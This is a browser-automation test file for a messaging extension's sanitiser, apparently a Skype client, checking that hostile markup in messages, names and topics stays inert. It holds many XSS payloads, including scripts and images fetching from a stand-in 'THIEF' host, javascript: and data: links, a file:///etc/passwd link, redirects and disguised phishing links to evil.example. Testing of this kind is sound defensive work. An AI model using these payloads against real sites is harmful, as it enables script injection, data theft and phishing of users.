// People who write to the user put into messages, names and topics whatever might hurt. It is shown as text or not at all:
// nothing runs, nothing is fetched, nothing opens, and links say where they lead.
import type { Page, Target } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { RawClient } from '../support/raw-client.ts';
import { startThief, type Thief } from '../support/thief.ts';
import { createWorld, until, type World } from './harness.ts';
import { everythingShown, openConversation, shownMessages, waitForMessage, waitForRow } from './screens.ts';

const allowedElements = new Set(
  'SPAN B I U S CODE PRE BR A BLOCKQUOTE CITE EM BDI'.split(' ').concat(['svg', 'path', 'circle']),
);
const allowedAttributes = new Set(
  'class dir title href target rel role aria-label aria-hidden viewBox d cx cy r data-icon'.split(' '),
);

/** What a hostile person writes; THIEF is where everything in it tries to go. */
const attacks: Record<string, string> = {
  'a script': '<script src="THIEF/a.js">alert(1)</script><script>alert(2)</script>',
  'a picture that fails': '<img src="THIEF/b.png" onerror="alert(3)"><img src=x onerror=alert(4)>',
  'pictures of every kind':
    '<picture><source srcset="THIEF/c1"></picture><video src="THIEF/c2" poster="THIEF/c3" autoplay></video><audio src="THIEF/c4" autoplay></audio><input type="image" src="THIEF/c5"><image href="THIEF/c6"/>',
  frames:
    '<iframe src="THIEF/d1" srcdoc="<script>parent.alert(5)</script>"></iframe><object data="THIEF/d2"></object><embed src="THIEF/d3"><frameset><frame src="THIEF/d4"></frameset><portal src="THIEF/d5"></portal>',
  'a drawing with script':
    '<svg onload="alert(6)"><script>alert(7)</script><use href="THIEF/e1#x"/><image href="THIEF/e2"/><a xlink:href="javascript:alert(8)"><text>click</text></a><animate onbegin="alert(9)" attributeName="x" dur="1s"/></svg>',
  mathematics:
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(10)>"></mglyph></table></mtext></math>',
  styles:
    '<style>@import url("THIEF/f1"); body { background: url(THIEF/f2); display: none }</style><link rel="stylesheet" href="THIEF/f3"><b style="position:fixed;inset:0;background:url(THIEF/f4)">all over</b>',
  'where the page goes':
    '<base href="THIEF/"><meta http-equiv="refresh" content="0;url=THIEF/g1"><form action="THIEF/g2"><button autofocus>Sign in again</button></form>',
  'handlers on allowed tags':
    '<b onclick="alert(11)" onmouseover="alert(12)" onfocus="alert(13)" autofocus tabindex="1">bold</b><a href="https://example.org/" onclick="alert(14)">link</a>',
  'javascript links':
    '<a href="javascript:alert(15)">one</a><a href=" java&#115;cript&#58;alert(16)">two</a><a href="java\tscript:alert(17)">three</a><a href="data:text/html,<script>alert(18)</script>">four</a><a href="vbscript:alert(19)">five</a><a href="blob:https://x/1">six</a><a href="file:///etc/passwd">seven</a><a href="chrome-extension://abc/x">eight</a><a href="//example.org/">nine</a>',
  'a template':
    '<template><img src="THIEF/h1"></template><noscript><img src="THIEF/h2"></noscript><xmp><img src="THIEF/h3"></xmp><textarea><img src="THIEF/h4"></textarea><slot name="x"></slot>',
  'broken tags':
    '<b><i><<img src="THIEF/i1"<<b x=">"></i onerror=alert(20)>&lt;img src=x onerror=alert(21)&gt;<![CDATA[<script>alert(22)</script>]]><!--><img src=x onerror=alert(23)>--><?php echo 1 ?><!DOCTYPE html [<!ENTITY x SYSTEM "THIEF/i2">]>&x;',
  'ids that clobber':
    '<a id="app" name="body">a</a><form id="location"><input name="href"></form><img name="getElementById"><b id="__proto__" class="conversation row">b</b>',
  'a picture of the protocol':
    '<URIObject type="Picture.1" uri="THIEF/j1" url_thumbnail="THIEF/j2"><a href="THIEF/j3">THIEF/j3</a><OriginalName v="&lt;img src=x onerror=alert(24)&gt;"/></URIObject>',
  'emoticons and mentions':
    '<ss type="&quot;&gt;&lt;img src=x onerror=alert(25)&gt;">&lt;script&gt;</ss><at id="8:fred.2&quot; onclick=&quot;alert(26)">@Fred</at><quote author="joe.4" authorname="&lt;img src=x&gt;" timestamp="1" conversation="THIEF/k1"><img src="THIEF/k2">quoted</quote>',
};

describe('hostile markup', () => {
  let world: World;
  let joe: RawClient;
  let thief: Thief;
  let page: Page;
  const trouble: string[] = [];
  const noteTarget = (target: Target) => trouble.push(`opened ${target.type()} ${target.url()}`);

  /** Remembers everything that a page does beyond showing itself. */
  async function watch(watched: Page): Promise<void> {
    watched.on('dialog', (dialog) => {
      trouble.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    watched.on('request', (request) => {
      if (!request.url().startsWith('chrome-extension:')) trouble.push(`request ${request.url()}`);
    });
    watched.on('pageerror', (error) => trouble.push(`error ${String(error)}`));
    watched.on('framenavigated', (frame) => {
      if (frame.url() !== address) trouble.push(`navigated to ${frame.url()}`);
    });
    const address = watched.url();
    await watched.exposeFunction('noteViolation', (what: string) => trouble.push(`policy violated: ${what}`));
    await watched.evaluate(() => {
      const note = (globalThis as unknown as { noteViolation(what: string): void }).noteViolation;
      document.addEventListener('securitypolicyviolation', (event) =>
        note(`${event.violatedDirective} ${event.blockedURI}`),
      );
    });
  }

  /** Every element inside the message bubbles, with its attributes. */
  function elementsShown(): Promise<{ name: string; attributes: [string, string][] }[]> {
    return page.$$eval('.bubble *', (elements) =>
      elements.map((element) => ({
        name: element.tagName,
        attributes: [...element.attributes].map((attribute): [string, string] => [attribute.name, attribute.value]),
      })),
    );
  }

  async function expectHarmless(): Promise<void> {
    for (const { name, attributes } of await elementsShown()) {
      expect(allowedElements).toContain(name);
      for (const [attribute, value] of attributes) {
        expect(allowedAttributes).toContain(attribute);
        if (attribute === 'href') expect(value).toMatch(/^(https?|mailto|tel):/);
      }
    }
    const links = await page.$$eval('.bubble a', (all) =>
      all.map((link) => [link.getAttribute('target'), link.getAttribute('rel')].join(' ')),
    );
    expect(new Set(links)).toEqual(new Set(links.length > 0 ? ['_blank noopener noreferrer'] : []));
    expect(trouble).toEqual([]);
    expect(thief.requests).toEqual([]);
    expect(thief.connections).toBe(0);
  }

  beforeAll(async () => {
    world = await createWorld();
    thief = await startThief();
    await world.signIn();
    joe = await world.connect('joe.4');
    await joe.send('8:fred.2', 'Hello');
    page = await world.openPopup();
    await openConversation(page, 'Joe Bloggs');
    await waitForMessage(page, 'Hello');
    await watch(page);
    world.live.browser.on('targetcreated', noteTarget);
  });
  afterAll(async () => {
    world?.live.browser.off('targetcreated', noteTarget);
    await world?.close();
    await thief?.close();
  });
  afterEach(() => {
    trouble.length = 0;
  });

  it.each(Object.keys(attacks))('is inert: %s', async (name) => {
    await joe.send('8:fred.2', `attack: ${attacks[name]?.replaceAll('THIEF', thief.url)}`);
    await joe.send('8:fred.2', `after ${name}`);
    await waitForMessage(page, `after ${name}`);
    await expectHarmless();
  });

  it('is inert in the list, in the tooltip of the toolbar and in a fresh popup that reads it from the database', async () => {
    const anna = await world.connect('anna.7');
    await anna.send('8:fred.2', `<img src="${thief.url}/list.png" onerror="alert(30)"><script>alert(31)</script>seen`);
    await world.waitForBadge('1');
    expect((await world.badge()).title).not.toMatch(/[<>]/);
    world.live.browser.off('targetcreated', noteTarget);
    const fresh = await world.openPopup();
    await watch(fresh);
    await waitForRow(fresh, 'Anna Cooper', ({ line }) => line.includes('seen'));
    expect(await fresh.$$('img[src^="http"], script:not([src]), iframe, object, embed')).toEqual([]);
    await openConversation(fresh, 'Joe Bloggs');
    await waitForMessage(fresh, 'after ids that clobber');
    await fresh.close();
    world.live.browser.on('targetcreated', noteTarget);
    await page.bringToFront();
    await expectHarmless();
  });

  it('is inert in names and topics', async () => {
    await joe.account('POST', '/api.skype.com/users/self/profile/partial', {
      payload: { firstname: '<img src=x onerror=alert(32)>', lastname: '<b>Bloggs</b>' },
    });
    await joe.request('POST', '/v1/threads', {
      members: [
        { id: '8:joe.4', role: 'Admin' },
        { id: '8:fred.2', role: 'User' },
      ],
      properties: { topic: `<img src="${thief.url}/topic.png" onerror="alert(33)"><script>alert(34)</script>` },
    });
    const { conversations } = (await joe.request(
      'GET',
      '/v1/users/ME/conversations?startTime=0&pageSize=10&view=msnp24Equivalent&targetType=Thread',
    )) as { conversations: { id: string }[] };
    await joe.send(String(conversations[0]?.id), 'From a group with a hostile name');
    world.live.browser.off('targetcreated', noteTarget);
    const fresh = await world.openPopup();
    await watch(fresh);
    const title = `<img src="${thief.url}/topic.png" onerror="alert(33)"><script>alert(34)</script>`;
    await openConversation(fresh, title);
    await waitForMessage(fresh, 'From a group with a hostile name');
    expect(await fresh.$eval('h1', (heading) => heading.innerHTML)).not.toMatch(/<(img|script)/);
    expect(await everythingShown(fresh)).toContain(title);
    await fresh.close();
    world.live.browser.on('targetcreated', noteTarget);
    await page.bringToFront();
    await expectHarmless();
  });

  it('that is nested 20,000 deep, or 64 KB of tags, stops neither the page nor the worker', async () => {
    const fits = (piece: string) => piece.repeat(Math.floor(65_000 / piece.length));
    const bombs = [
      '<b>'.repeat(20_000),
      '<quote>'.repeat(9_000),
      `${'<i>'.repeat(8_000)}deep${'</i>'.repeat(8_000)}`,
      fits('<'),
      fits('&lt;'),
      fits('&#1;'),
      fits('<a href="https://example.org">x'),
      fits('<ss type="smile">:)</ss>'),
      fits('https://example.org/ '),
      fits('<b x="'),
      'x'.repeat(65_000),
    ];
    for (const [index, bomb] of bombs.entries()) {
      await joe.send('8:fred.2', bomb);
      await joe.send('8:fred.2', `survived ${index}`);
    }
    await waitForMessage(page, `survived ${bombs.length - 1}`);
    await expectHarmless();
    const depth = await page.evaluate(() => {
      let deepest = 0;
      for (const element of document.querySelectorAll('.bubble *')) {
        let steps = 0;
        for (let at: Element | null = element; at; at = at.parentElement) steps++;
        deepest = Math.max(deepest, steps);
      }
      return deepest;
    });
    expect(depth).toBeLessThan(200);
  });

  it('cannot disguise where a link leads', async () => {
    await joe.send('8:fred.2', 'bank: <a href="https://evil.example/login">bank.example/login</a>');
    await joe.send(
      '8:fred.2',
      'turned: <a href="https://evil.example/\u202egpj.knab">a picture</a> \u202ehttps://knab.live/\u202c',
    );
    await joe.send('8:fred.2', 'named: <a href="https://bank.example@evil.example/">bank</a>');
    await joe.send('8:fred.2', 'mixed: https://b\u0430nk.example/');
    await joe.send('8:fred.2', 'end of disguises');
    await waitForMessage(page, 'end of disguises');
    const shown = await shownMessages(page);
    expect(shown.find((text) => text.startsWith('bank:'))).toContain('(leads to evil.example)');
    const linksOf = (start: string) =>
      page.$$eval(
        '.bubble',
        (bubbles, wanted) =>
          bubbles
            .filter((bubble) => bubble.textContent?.trim().startsWith(wanted))
            .flatMap((bubble) => [...bubble.querySelectorAll('a')].map((link) => link.href)),
        start,
      );
    expect(await linksOf('turned:')).toEqual([]);
    expect(await linksOf('named:')).toEqual([]);
    expect(await linksOf('mixed:')).toEqual([]);
    await expectHarmless();
  });

  it('of an allowed link opens a page that knows nothing of Skylark, when it is clicked', async () => {
    await joe.send('8:fred.2', `visit <a href="${thief.url}/asked-for">this page</a>`);
    await waitForMessage(page, 'visit this page');
    await page.locator('::-p-text(this page)').click();
    await until('the page that was asked for', () => thief.requests.length > 0);
    expect(thief.requests[0]).toMatch(/^GET \/asked-for/);
    expect(thief.requests[0]).not.toMatch(/referer|chrome-extension|cookie|token/i);
    const opened = await world.live.browser.waitForTarget((target) => target.url().startsWith(thief.url));
    const foreign = await opened.page();
    expect(await foreign?.evaluate(() => opener)).toBeNull();
    await foreign?.close();
  });
});
